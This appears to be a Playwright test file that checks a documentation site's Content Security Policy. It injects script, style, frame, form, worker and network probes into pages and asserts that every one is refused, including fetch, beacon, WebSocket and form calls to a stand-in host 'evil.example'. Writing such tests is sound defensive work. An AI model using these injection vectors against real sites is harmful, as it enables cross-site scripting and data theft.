"""The policy in a browser: nothing of the site is refused by it, and whatever else is, hosted and from disk."""

from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.browser.conftest import served, visit
from tests.browser.test_pages import PAGES
from tests.reader import Site

pytestmark = pytest.mark.browser

# Each sets window.ran, or asks for something, if it is let.
_TRIES = """async (expected) => {
  const refused = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
  const put = (html) => {
    const place = document.createElement("div");
    place.innerHTML = html;
    document.body.append(place);
    return place;
  };
  const script = (set) => {
    const made = document.createElement("script");
    set(made);
    document.body.append(made);
  };
  put('<img src="x:" onerror="window.ran = 1">');
  put('<svg onload="window.ran = 2"></svg>');
  put('<a href="javascript:void(window.ran = 3)">x</a>').firstChild.click();
  put('<iframe srcdoc="<script>parent.ran = 4</script>"></iframe><iframe src="https://evil.example/"></iframe>');
  put('<object data="data:text/html,x"></object><embed src="data:text/html,x">');
  put('<img src="https://evil.example/x.png"><style>body { outline: 9px solid }</style><p style="outline: 9px solid">');
  put('<form action="https://evil.example/"><button></button></form>').querySelector("button").click();
  put('<base href="https://evil.example/">');
  script((one) => (one.textContent = "window.ran = 5"));
  script((one) => (one.src = "data:text/javascript,window.ran = 6"));
  script((one) => (one.src = "https://evil.example/x.js"));
  script((one) => (one.src = URL.createObjectURL(new Blob(["window.ran = 7"]))));
  setTimeout("window.ran = 8"); // a tool of the browser itself, which this is, may call eval()
  try { new Worker(URL.createObjectURL(new Blob(["1"]))); } catch { /* refused */ }
  try { await fetch("https://evil.example/"); } catch { /* refused */ }
  try { navigator.sendBeacon("https://evil.example/"); } catch { /* refused */ }
  try { new WebSocket("wss://evil.example/"); } catch { /* refused */ }
  const end = performance.now() + 20000; // what is refused late on a busy machine is refused too
  const wait = () => new Promise((done) => setTimeout(done, 500));
  do await wait(); while (performance.now() < end && !expected.every((one) => refused.includes(one)));
  const { outlineWidth } = getComputedStyle(document.body);
  return [window.ran ?? 0, outlineWidth, document.baseURI, [...new Set(refused)]];
}"""
_REFUSED = {
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
    "worker-src",
}


def on_disk(folder: Path, path: str) -> str:
    """Give the address of a page of the copy."""
    return (folder / path / "index.html").as_uri()


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("where", ["with headers", "from disk"])
def test_a_page_opens_without_a_refusal(
    chromium: Browser, strict_address: str, from_disk: Site, where: str, name: str
) -> None:
    """With the policy of its own, and with that of the headers on top; no error, no warning, no other host."""
    disk = where == "from disk"
    with visit(chromium) as reader:
        path = PAGES[name]
        reader.to(on_disk(from_disk.folder, path) if disk else strict_address + path).wait_for_load_state("networkidle")
        assert reader.errors == []
        allowed = ("file:", "data:") if disk else (strict_address, "data:")
        assert [asked for asked in reader.requests if not asked.startswith(allowed)] == []


@pytest.mark.parametrize("where", ["hosted", "with headers", "from disk"])
def test_what_is_put_into_a_page_does_not_run(
    chromium: Browser, address: str, strict_address: str, from_disk: Site, where: str
) -> None:
    """Neither script nor style, frame, form, worker, nor a word to another host, however it came there."""
    places = {"hosted": address, "with headers": strict_address, "from disk": on_disk(from_disk.folder, "")}
    context = chromium.new_context()
    page = context.new_page()
    stopped: list[str] = []
    answered: list[str] = []
    page.on("requestfailed", lambda request: stopped.append(f"{request.failure}: {request.url}"))
    context.route("https://evil.example/**", lambda route: (answered.append(route.request.url), route.abort()))
    page.goto(places[where])
    ran, outline, base, refused = page.evaluate(_TRIES, sorted(_REFUSED))
    assert (ran, base) == (0, places[where])
    assert not outline.startswith("9")
    assert set(refused) >= _REFUSED, _REFUSED - set(refused)
    assert answered == []
    assert [one for one in stopped if "evil" in one and not one.startswith("csp: ")] == []
    context.close()


def test_no_other_page_holds_ours_in_a_frame(chromium: Browser, strict_address: str, tmp_path: Path) -> None:
    """Where a server sends the headers."""
    (tmp_path / "index.html").write_text(f'<iframe src="{strict_address}"></iframe>', encoding="utf-8")
    context = chromium.new_context()
    page = context.new_page()
    with served(tmp_path) as other:
        page.goto(other)
        page.wait_for_load_state("networkidle")
        assert [frame for frame in page.frames if frame.url.startswith(strict_address)] == []
    context.close()


@pytest.mark.parametrize("which", ["address", "address_below"])
def test_the_page_of_what_is_not_there_works(chromium: Browser, which: str, request: pytest.FixtureRequest) -> None:
    """At the root of a host and below a path: no error, the search answers, the service worker starts."""
    root = request.getfixturevalue(which)
    with visit(chromium) as reader:
        page = reader.to(f"{root}404.html")
        page.keyboard.press("/")
        page.keyboard.type("InfiniBand")
        hit = page.locator(".md-search-result__item a").first
        hit.wait_for()
        assert str(hit.get_attribute("href")).startswith(root)
        assert page.evaluate("navigator.serviceWorker.ready.then(({ scope }) => scope)") == root
        assert reader.errors == []
